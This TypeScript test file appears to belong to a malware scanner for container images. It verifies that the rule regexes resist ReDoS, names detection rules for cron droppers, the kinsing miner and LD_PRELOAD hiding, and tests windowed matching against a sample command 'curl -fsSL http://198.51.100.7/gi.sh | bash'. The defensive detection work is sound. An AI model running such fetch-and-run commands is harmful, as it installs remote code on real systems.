/**
 * No rule regex may backtrack super-linearly: every line of an image is attacker text,
 * and a regex that is quadratic in its input lets a few kilobytes stall a scan.
 * recheck (a ReDoS analyser, pure JavaScript, nothing downloaded) decides each regex
 * with its automaton checker, which is deterministic; regexes it cannot model
 * (lookaround, back-references) or that run out of its time budget are not proven
 * either way and are read in bounded windows by RuleSet (ruleset.ts). Regexes marked
 * `flags: l` run on V8's linear-time engine and need no analysis.
 */
import { describe, expect, it } from 'vitest';
import { checkSync } from 'recheck';
import { RuleSet, execWindowed, RULE_WINDOW } from '../../src/rules/ruleset.js';
import { isLinear } from '../../src/rules/linear-regex.js';

interface RuleRegex {
  id: string;
  regex: RegExp;
}

function ruleRegexes(rules: RuleSet): RuleRegex[] {
  const out: RuleRegex[] = [];
  for (const r of rules.all()) {
    const m = r.match;
    if (m.kind === 'content') {
      out.push({ id: r.id, regex: m.regex });
      for (const a of m.all ?? []) out.push({ id: `${r.id} (all)`, regex: a });
    } else if (m.kind === 'path' && m.contains) out.push({ id: r.id, regex: m.contains });
    else if (m.kind === 'name' && m.regex) out.push({ id: r.id, regex: m.regex });
  }
  return out;
}

describe('rule regexes', () => {
  it('none is proven to backtrack super-linearly', async () => {
    const rules = await RuleSet.load();
    const vulnerable: string[] = [];
    for (const { id, regex } of ruleRegexes(rules)) {
      if (isLinear(regex)) continue;
      const result = checkSync(regex.source, regex.flags, { checker: 'automaton', timeout: 2000 });
      if (result.status === 'vulnerable') vulnerable.push(`${id}: ${result.complexity.summary}, e.g. ${result.attack.pattern}`);
    }
    expect(vulnerable).toEqual([]);
  }, 300_000);

  it('the analyser finds the kinds of regexes it must, so the test above can fail', () => {
    expect(checkSync('^\\s*Key(?:\\s*=\\s*|\\s+)(?:.*\\s)?/tmp/', 'i', { checker: 'automaton', timeout: 2000 }).status).toBe('vulnerable');
    expect(checkSync('\\b(?:curl|wget)\\b[^;&|]*/kinsing\\b', '', { checker: 'automaton', timeout: 2000 }).status).toBe('vulnerable');
  });

  it('the pack regexes marked l run on the linear engine', async () => {
    const rules = await RuleSet.load();
    const linear = ruleRegexes(rules).filter((r) => isLinear(r.regex)).map((r) => r.id).sort();
    expect(linear).toEqual(
      [
        'cron.dropper-gi-sh',
        'kinsing.download',
        'linker.environment-audit',
        'linker.environment-library-path',
        'startup.ld-preload-hidden',
        'sudoers.keeps-preload',
        'udev.run-detaches',
      ].sort(),
    );
  });

  it('a command in the middle of a long line lies whole in one window', async () => {
    const rules = await RuleSet.load();
    const regex = rules.get('command.download-and-run').match;
    if (regex.kind !== 'content') throw new Error('not a content rule');
    const command = 'curl -fsSL http://198.51.100.7/gi.sh | bash';
    for (const before of [0, RULE_WINDOW / 2 - 10, RULE_WINDOW - 10, 3 * RULE_WINDOW + 7, 1 << 20]) {
      const line = `${'x'.repeat(before)} ${command} ${'y'.repeat(1 << 20)}`;
      expect(execWindowed(regex.regex, line)?.[0]).toContain('| bash');
    }
  });
});
